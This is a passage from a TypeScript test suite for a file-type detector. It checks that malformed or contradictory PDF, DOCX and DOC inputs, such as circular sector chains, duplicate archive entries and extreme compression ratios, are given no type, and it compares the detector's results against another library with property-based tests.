  expect(await look(pdf({ objects }))).toBeUndefined();
});

test("a file of too many small parts has no type", async () => {
  expect(await look(pdf({ objects: "obj<<(".repeat(10_000) }))).toBeUndefined();
  const entries = Object.fromEntries(
    Array.from({ length: 6000 }, (_each, index) => [`word/${index}.xml`, ""]),
  );
  expect(await look(docx(entries))).toBeUndefined();
});

test("circular chains and trees are detected", async () => {
  const chain = doc();
  // Each sector's next is itself.
  for (let sector = 1; sector < 128; sector += 1) chain.writeUInt32LE(sector, 512 + sector * 4);
  expect(await look(chain)).toBeUndefined();
  const tree = doc();
  const directory = (tree.readUInt32LE(48) + 1) * 512;
  // The right siblings of the first two entries are the first.
  for (const index of [1, 2]) tree.writeUInt32LE(1, directory + index * 128 + 72);
  expect(await look(tree)).toEqual({ type: "doc" });
});

test("an archive whose entries contradict its central directory has no type", async () => {
  const renamed = docx({ "word/styles.xml": "<w:styles/>" });
  // The name before the entry, not the one in the table.
  renamed.write("x", renamed.indexOf("word/styles.xml"));
  expect(await look(renamed)).toBeUndefined();
});

test("an archive appended to another has no type", async () => {
  expect(await look(Buffer.concat([docx(), docx()]))).toBeUndefined();
});

test("texts with an implausible compression ratio have no type", async () => {
  const text = `<w:document>${"<w:r/>".repeat(600_000)}</w:document>`;
  expect(await look(docx({ "word/document.xml": text }))).toBeUndefined();
});

test("an archive with two entries of the same name is no document, since programs disagree on which to read", async () => {
  const bytes = docx({ "word/document.xmm": "" });
  expect(
    await look(Buffer.from(bytes.toString("latin1").replaceAll("document.xmm", "document.xml"), "latin1")),
  ).toBeUndefined();
});

test("for any bytes, another library detects the same type or there is none", async () => {
  const beginnings = [pdf(), docx(), doc(), odt(), rtf, jpg, png, dwg()];
  // It reads an archive from its front, we and the programs that open it from its table of contents.
  const types = {
    pdf: /pdf/,
    docx: /docx|zip/,
    doc: /cfb/,
    odt: /odt|zip/,
    rtf: /rtf/,
    jpg: /jpg/,
    // It reads on to the picture itself, and says nothing of one whose parts are damaged.
    png: /^(png)?$/,
    dwg: /dwg/,
  };
  const changed = fc
    .tuple(fc.constantFrom(...beginnings), fc.uint8Array({ maxLength: 300 }), fc.nat(400))
    .map(([whole, noise, at]) =>
      Buffer.concat([whole.subarray(0, at), noise, whole.subarray(at + noise.length)]),
    );
  const random = fc.uint8Array({ maxLength: 2000 }).map((bytes) => Buffer.from(bytes));
  const agrees = fc.asyncProperty(fc.oneof(changed, random), async (bytes) => {
    const finding = await look(bytes);
    return !finding || types[finding.type].test((await fileTypeFromBuffer(bytes))?.ext ?? "");
  });
  expect((await fc.check(agrees, { numRuns: 500 })).counterexample).toBeNull();
});

async function look(bytes: Buffer) {
  await writeFile(join(folder, "file"), bytes);
  return inspect(join(folder, "file"));
}
